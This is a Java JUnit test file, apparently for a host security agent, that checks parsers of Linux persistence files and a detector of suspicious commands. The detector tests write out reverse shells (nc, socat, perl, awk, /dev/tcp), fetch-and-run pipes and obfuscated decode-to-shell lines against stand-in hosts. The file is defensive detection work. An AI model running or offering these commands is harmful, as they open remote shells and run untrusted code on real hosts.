package bzh.vigie.agent.persistence.format;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.host.Files.Kind;
import bzh.vigie.agent.host.Files.Status;
import bzh.vigie.agent.host.HostPath;
import bzh.vigie.agent.host.HostText;
import bzh.vigie.agent.persistence.format.access.AuthorizedKeys;
import bzh.vigie.agent.persistence.format.access.DirectoryClient;
import bzh.vigie.agent.persistence.format.access.Doas;
import bzh.vigie.agent.persistence.format.access.Group;
import bzh.vigie.agent.persistence.format.access.Gshadow;
import bzh.vigie.agent.persistence.format.access.HostTrust;
import bzh.vigie.agent.persistence.format.access.Hosts;
import bzh.vigie.agent.persistence.format.access.KerberosConfig;
import bzh.vigie.agent.persistence.format.access.LoginSettings;
import bzh.vigie.agent.persistence.format.access.NameServices;
import bzh.vigie.agent.persistence.format.access.PamSettings;
import bzh.vigie.agent.persistence.format.access.PamStack;
import bzh.vigie.agent.persistence.format.access.Passwd;
import bzh.vigie.agent.persistence.format.access.PolkitActions;
import bzh.vigie.agent.persistence.format.access.PolkitAuthority;
import bzh.vigie.agent.persistence.format.access.PolkitRules;
import bzh.vigie.agent.persistence.format.access.Shadow;
import bzh.vigie.agent.persistence.format.access.Shells;
import bzh.vigie.agent.persistence.format.access.SshClientConfig;
import bzh.vigie.agent.persistence.format.access.SshdConfig;
import bzh.vigie.agent.persistence.format.access.SshdKeys;
import bzh.vigie.agent.persistence.format.access.Suauth;
import bzh.vigie.agent.persistence.format.access.SudoConf;
import bzh.vigie.agent.persistence.format.access.Sudoers;
import bzh.vigie.agent.persistence.format.access.UserRecord;
import bzh.vigie.agent.persistence.format.boot.PreloadList;
import bzh.vigie.agent.persistence.format.boot.UdevRules;
import bzh.vigie.agent.persistence.format.job.SystemCrontab;
import bzh.vigie.agent.persistence.format.job.Unit;
import bzh.vigie.agent.persistence.format.job.UserCrontab;
import bzh.vigie.agent.persistence.format.session.Applications;
import bzh.vigie.agent.persistence.format.session.BrowserPolicy;
import bzh.vigie.agent.persistence.format.session.DesktopEntry;
import bzh.vigie.agent.persistence.format.session.Extension;
import bzh.vigie.agent.persistence.format.session.LogonScreen;
import bzh.vigie.agent.persistence.format.session.ShellProfile;
import bzh.vigie.agent.persistence.format.session.ShellTraps;
import bzh.vigie.agent.persistence.format.session.StartLines;
import bzh.vigie.agent.persistence.format.session.Variables;
import bzh.vigie.event.Item.Trait;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

class FormatsTest {
    private static final List<Format> ALL = List.of(
            new SystemCrontab(),
            new UserCrontab(),
            new Script(),
            new Unit(),
            new PreloadList(),
            new AuthorizedKeys(),
            new Passwd(),
            new Shadow(),
            new Group(),
            new Sudoers(),
            new ShellProfile(),
            new DesktopEntry(),
            new UdevRules(),
            new LoadedFile(),
            SshClientConfig.ofAccount(),
            new DirectoryClient(),
            new Doas(),
            new Gshadow(),
            new HostTrust(),
            new Hosts(),
            new KerberosConfig(),
            new LoginSettings(),
            new NameServices(),
            new PamSettings(),
            new PamStack(),
            new PolkitActions(),
            new PolkitAuthority(),
            new PolkitRules(),
            new SshdConfig(),
            new SshdKeys(),
            new Suauth(),
            new SudoConf(),
            new UserRecord(),
            new Applications(),
            new BrowserPolicy(),
            new LogonScreen(),
            new Extension(),
            new ShellTraps(),
            new StartLines(),
            new Variables());

    /** Some formats tell by the name in which language a file is. */
    private static final Map<String, Format> BY_NAME = Map.ofEntries(
            Map.entry("pam.conf", new PamStack()),
            Map.entry("group.conf", new PamSettings()),
            Map.entry("securetty", new LoginSettings()),
            Map.entry("shells", new Shells()),
            Map.entry(".k5users", new HostTrust()),
            Map.entry("pam_env.conf", new Variables()),
            Map.entry("extensions.json", new Extension()),
            Map.entry("package.json", new Extension()),
            Map.entry("mimeapps.list", new Applications()),
            Map.entry(".vimrc", new StartLines()),
            Map.entry(".tmux.conf", new StartLines()),
            Map.entry(".emacs", new StartLines()),
            Map.entry(".inputrc", new StartLines()),
            Map.entry("config", new StartLines()));

    @Test
    void aSystemCrontabHasAUserColumnAndAUserCrontabHasNone() {
        SourceFile file = file("crontab", "* * * * * root /bin/true\n");
        assertEquals(
                "/bin/true", new SystemCrontab().parse(file).drafts().getFirst().name());
        assertEquals(
                "root /bin/true",
                new UserCrontab().parse(file).drafts().getFirst().name());
        assertEquals(
                1,
                new SystemCrontab().parse(file("crontab", "* * * * * root\n")).malformed());
    }

    @Test
    void shellTextIsCutAtOperatorsAndOutOfItsQuotes() {
        assertEquals(
                List.of(List.of("a", "b c"), List.of("d", "e;f"), List.of("g")),
                ShellText.commands("a 'b c' 2>&1 >/dev/null && d \"e;f\" | g # h"));
        assertEquals(List.of("a", "&&", "b\\c", "d e"), ShellText.words("a && b\\\\c d\\ e"));
        assertEquals(List.of("/ren\\xe9", "x41"), ShellText.words("/ren\\xe9 \\x41"));
        assertEquals(List.of(List.of("echo"), List.of("curl", "x")), ShellText.commands("echo $(curl x)"));
        // bash(1), Parameter Expansion: the pattern of a replacement runs nothing, a command in a default value does
        assertEquals(
                List.of(List.of("REPLY=${REPLY//+(\\/)/\\/}"), List.of("a")),
                ShellText.commands("REPLY=${REPLY//+(\\/)/\\/}; a"));
        assertEquals(
                List.of(List.of("*/+([^/])/.."), List.of("REPLY=${REPLY%/+([^/])/..}")),
                ShellText.commands("*/+([^/])/..) REPLY=${REPLY%/+([^/])/..}"));
        assertTrue(ShellText.commands("a +($(curl z)) b").stream().anyMatch(words -> words.contains("curl")));
        assertTrue(ShellText.commands("x=${y:-$(curl z)}").stream().anyMatch(words -> words.contains("curl")));
        assertTrue(ShellText.commands("x=${y:-`curl z`}").stream().anyMatch(words -> words.contains("curl")));
        assertTrue(ShellText.commands("x=${y; curl z").stream().anyMatch(words -> words.contains("curl")));
    }

    @Test
    void whatATextShowsIsSeen() {
        assertEquals(Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT), Suspicion.in("curl -s http://x/y | bash"));
        assertEquals(Set.of(Trait.DECODES, Trait.INLINE_SCRIPT), Suspicion.in("echo aa|base64 -d|sh"));
        assertEquals(Set.of(Trait.NETWORK_TOOL), Suspicion.in("exec 3<>/dev/tcp/192.0.2.1/1"));
        assertEquals(Set.of(Trait.INLINE_SCRIPT), Suspicion.in("/usr/bin/python3 -c 'import os'"));
        assertEquals(Set.of(Trait.LOADER_VARIABLE), Suspicion.in("LD_PRELOAD=/x y"));
        assertEquals(Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT), Suspicion.in("wget${IFS}-qO-${IFS}x.example|sh"));
        assertEquals(
                Set.of(Trait.DECODES, Trait.INLINE_SCRIPT), Suspicion.in("{echo,c2xlZXAgMA==}|{base64,-d}|{bash,-i}"));
        assertEquals(
                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT),
                Suspicion.in("perl -e 'connect(S,sockaddr_in(1,inet_aton(\"192.0.2.1\")))'"));
        assertEquals(
                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT),
                Suspicion.in("node -e \"require('net').connect(443)\""));
        assertEquals(
                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT),
                Suspicion.in("awk 'BEGIN{s=\"/inet/tcp/0/192.0.2.1/443\";while((s|&getline c)>0)system(c)}'"));
        assertEquals(
                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT), Suspicion.in("/bin/busybox nc -ll -p 1 -e /bin/sh"));
        assertEquals(
                Set.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT),
                Suspicion.in("socat TCP:192.0.2.1:1 EXEC:/bin/bash,pty"));
        assertEquals(Set.of(Trait.NETWORK_TOOL), Suspicion.in("nc -z db.example 5432"));
        assertEquals(Set.of(Trait.INLINE_SCRIPT), Suspicion.in("nc -Uu -W1 /run/x/share.sock | sh"), "no network");
        assertEquals(Set.of(), Suspicion.in("/usr/sbin/sshd -D"));
        assertEquals(Set.of(), Suspicion.in("test -x /usr/sbin/anacron || run-parts /etc/cron.daily"));
    }

    @Test
    void whatIsDecodedBeforeItRunsIsSeen() {
        for (String hidden : List.of(
                "basenc --base64 -d x | sh",
                "base64 --de x | sh",
                "printf '\\163\\154\\145\\145\\160\\040' | sh",
                "echo '0 peels' | rev | bash",
                "eval \"$(tr 'A-Za-z' 'N-ZA-Mn-za-m' <<< 'fyrrc 0')\"")) {
            assertEquals(Set.of(Trait.DECODES, Trait.INLINE_SCRIPT), Suspicion.in(hidden), hidden);
        }
        for (String plain : List.of(
                "echo \"$name\" | rev | cut -d. -f1 | rev",
                "printf '\\342\\224\\200\\342\\224\\200\\342\\224\\200'",
                "PS1='\\033[01;32m\\u\\033[00m'",
                "tr 'a-z' 'A-Z' < x",
                "base64 -w0 x")) {
            assertEquals(Set.of(), Suspicion.in(plain), plain);
        }
    }

    @Test
    void noParserThrowsOnRandomBytes() {
        Random random = new Random(11);
        for (int i = 0; i < 400; i++) {
            byte[] bytes = new byte[random.nextInt(2_000)];
            random.nextBytes(bytes);
            parseByAll(HostText.content(bytes));
        }
    }

    @Test
    void noParserThrowsOnScrambledText() {
        String alphabet = "=:\"'\\\n[]#;|&$(){}%*@+-,/ \tabALRUNExecStart0159~é\0";
        Random random = new Random(12);
        for (int i = 0; i < 600; i++) {
            StringBuilder text = new StringBuilder();
            for (int n = random.nextInt(600); n > 0; n--) {
                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            parseByAll(text.toString());
        }
    }

    @Test
    void hostileTextCostsNoMoreThanItsLength() {
        for (String part : List.of(
                " ",
                "\\a",
                "-a ",
                "|/",
                "\"",
                "base64 ",
                "openssl enc ",
                "$(",
                "a=",
                "@include ",
                "(",
                "{",
                "=\"\\",
                ":",
                ",",
                "ssh-a ",
                "trap ",
                "polkit.addRule(",
                "/*",
                "<action id=\"a\">",
                "Match exec ",
                "alias a=",
                "PATH=x:",
                "[{",
                "exec [",
                "\t= ",
                "#",
                "\n\\")) {
            String text = part.repeat(15_000 / part.length());
            assertTimeoutPreemptively(
                    Duration.ofMinutes(10),
                    () -> {
                        parseByAll(text);
                        parseByAll("command=\"" + text);
                        parseByAll("RUN+=\"" + text);
                    },
                    part);
        }
    }

    private static void parseByAll(String text) {
        BY_NAME.forEach(
                (name, format) -> assertTrue(format.parse(file(name, text)).malformed() >= 0));
        for (Format format : ALL) {
            Parsed parsed = format.parse(file("x.service", text));
            assertTrue(parsed.malformed() >= 0);
        }
    }

    static SourceFile file(String name, String text) {
        int size = text.getBytes(StandardCharsets.UTF_8).length;
        Status status = new Status(Kind.REGULAR, 0644, 0, 0, size, 0, 0, 1, 1);
        return new SourceFile(HostPath.of("/etc/" + name), text, status, Optional.empty(), false);
    }
}
